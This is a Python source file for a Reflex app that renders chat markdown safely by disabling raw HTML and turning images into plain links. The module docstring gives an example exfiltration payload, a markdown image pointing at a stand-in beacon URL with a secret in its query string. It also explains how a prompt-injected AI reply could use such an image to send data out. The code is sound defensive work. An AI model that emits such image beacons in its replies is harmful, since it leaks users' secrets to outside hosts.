"""Markdown from people and models, rendered inert: no raw HTML, no request to anywhere.

An image in a reply (`![x](https://elsewhere/beacon?secret=...)`) would make every viewer's
browser fetch that address, so a prompt-injected reply could send data out; it is shown as a
link instead, which only a click follows (and the CSP refuses other origins' images anyway).
"""

from __future__ import annotations

import reflex as rx

_SRC = rx.Var(_js_expr="props.src", _var_type=str)
_ALT = rx.Var(_js_expr="(props.alt || props.src)", _var_type=str)


def _image_as_link(*_children: object, **_props: object) -> rx.Component:
    """react-markdown's `img`, drawn as a link to the address, named by the alt text."""
    return rx.el.a(
        _ALT,
        href=_SRC,
        target="_blank",
        rel="noopener noreferrer nofollow",
        class_name="markdown-image-link",
    )


def inert_markdown(text: rx.Var[str] | str) -> rx.Component:
    """A message's markdown: links and formatting, never raw HTML or an image."""
    return rx.markdown(
        text, use_raw=False, class_name="markdown", component_map={"img": _image_as_link}
    )
